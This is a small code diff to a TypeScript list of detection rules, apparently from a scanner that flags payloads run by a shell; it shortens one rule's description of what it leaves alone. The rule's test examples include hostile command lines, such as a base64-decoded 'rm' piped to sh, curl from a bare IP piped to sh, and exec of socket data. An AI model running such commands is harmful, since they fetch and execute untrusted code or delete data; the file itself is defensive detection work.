@@ -109,8 +109,7 @@ export const filesystemRules: readonly Rule[] = [
     many: "foreign payloads run by a shell",
     flags:
       "Something decoded, or fetched from an address without a name, that goes straight into a shell or an interpreter; what a connection brings, run by the program that opened it; an encoded script for PowerShell.",
-    leaves:
-      "Decoding into a file or a variable that no shell runs, encoded scripts that only look, and installers fetched from a host with a name.",
+    leaves: "Decoding into a file or a variable, and installers fetched from a host with a name.",
     fails: ["echo cm0= | base64 -d | sh", "curl http://10.0.0.9/x | sh", "exec(s.recv(4096))"],
     passes: ["base64 -d x > y", "curl -s https://get.docker.com | sh"],
   },
